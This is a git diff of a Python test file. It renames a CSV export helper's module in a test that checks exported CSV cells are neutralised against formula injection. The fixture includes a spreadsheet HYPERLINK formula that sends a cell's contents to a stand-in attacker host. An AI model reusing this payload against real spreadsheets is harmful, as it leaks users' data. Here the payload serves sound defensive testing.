@@ -16,7 +16,8 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from linkgraph import csvsafe, views
+from linkgraph import csvsafe
+from linkgraph.casework import downloads
 from linkgraph.store.duckdb import DuckDBStore
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")@x.com'
@@ -98,7 +99,7 @@ def test_app_download_is_the_same_safe_csv(evil_store: tuple[Path, str]) -> None
     with DuckDBStore(db, read_only=True) as s:
         members = s.read_result("members").to_pandas()
         cluster = str(members.loc[members["account_id"] == victim, "cluster_id"].iloc[0])
-        data = views.export_bytes(s, "csv", [cluster]).decode()
+        data = downloads.export_bytes(s, "csv", [cluster]).decode()
     rows = _no_live_cells(data)
     assert any(("'" + EVIL) in r for r in rows)
 
